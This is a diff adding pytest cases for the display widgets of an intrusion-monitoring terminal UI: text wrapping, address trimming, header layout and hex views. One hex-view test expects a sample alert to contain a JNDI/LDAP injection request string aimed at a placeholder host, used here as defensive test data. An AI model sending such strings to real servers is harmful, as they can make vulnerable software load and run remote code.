@@ -6,11 +6,11 @@ from collections import deque
 
 import pytest
 
-from aegis_tui.widgets.bars import bits, header_items
+from aegis_tui.widgets.bars import arrange, bits, header_items
 from aegis_tui.widgets.hexview import dump, hex_lines
-from aegis_tui.widgets.line import line, paragraph, plain, wrap
+from aegis_tui.widgets.line import fit_ends, line, paragraph, plain, wrap
 from aegis_tui.widgets.rates import Rates, sparkline
-from aegis_tui.widgets.words import count, span
+from aegis_tui.widgets.words import count, since, span
 from engine.types import Counters
 from tests.aegis_tui import scenario
 from tests.aegis_tui.console import replay
@@ -77,6 +77,13 @@ def test_a_word_longer_than_the_pane_is_broken() -> None:
     assert all(len(plain(row)) <= 20 for row in wrap(paragraph("x" * 100), 20))
 
 
+@pytest.mark.parametrize("char", ["x", "中"])
+def test_a_word_of_a_million_characters_is_wrapped_in_one_pass(char: str) -> None:
+    """Where each piece had the rest measured anew, this would take hours."""
+    rows = wrap(paragraph(char * 1_000_000, max_rows=2_000_000), 80)
+    assert "".join(map(plain, rows)) == char * 1_000_000
+
+
 def test_wrapping_says_how_much_it_left_out() -> None:
     rows = wrap(paragraph("word " * 50, max_rows=3), 10)
     assert (len(rows), plain(rows[-1]).startswith("… +")) == (3, True)
@@ -84,3 +91,41 @@ def test_wrapping_says_how_much_it_left_out() -> None:
 
 def test_a_line_is_made_of_spans() -> None:
     assert plain(line("a", ("b", "bold"))) == "ab"
+
+
+@pytest.mark.parametrize(
+    ("text", "width", "shown"),
+    [
+        ("2001:db8:85a3:8d3:1319:8a2e:370:7344", 15, "2001:db…70:7344"),
+        ("203.0.113.9", 15, "203.0.113.9    "),
+        ("203.0.113.9", 4, "203…"),
+    ],
+)
+def test_an_address_is_cut_in_the_middle(text: str, width: int, shown: str) -> None:
+    assert fit_ends(text, width) == shown
+
+
+@pytest.mark.parametrize("width", [80, 120, 200])
+def test_the_clock_stands_at_the_right_edge(width: int) -> None:
+    shown = plain(arrange(header_items(scenario.snapshot(), Rates(), ""), width, line("09:02:11 UTC")))
+    assert (len(shown), shown.endswith("09:02:11 UTC")) == (width, True)
+
+
+def test_who_decides_is_told_in_full_where_shorter_words_elsewhere_make_room() -> None:
+    watching = scenario.snapshot(status=scenario.status(consoles=2, decider="ann on pts/3"))
+    shown = plain(arrange(header_items(watching, Rates(), ""), 120, line("09:02:11 UTC")))
+    assert "watching: ann on pts/3 decides; D takes over" in shown
+
+
+@pytest.mark.parametrize("width", [38, 42, 75])
+def test_hex_rows_show_the_text_beside_the_bytes_at_every_width(width: int) -> None:
+    rows = hex_lines(dump(scenario.alert()), width)
+    assert max(len(plain(row)) for row in rows) <= width
+    assert "".join(plain(row).split("│")[1] for row in rows).startswith("GET /?x=${jndi:ldap://203.0.113.9")
+
+
+@pytest.mark.parametrize(
+    ("ago", "words"), [(0.0, "09:02"), (86_399.0, "09:02"), (86_400.0, "10-08"), (scenario.NOW + 1, "—")]
+)
+def test_a_moment_of_another_day_is_told_by_its_date(ago: float, words: str) -> None:
+    assert since(scenario.NOW - ago, scenario.NOW) == words
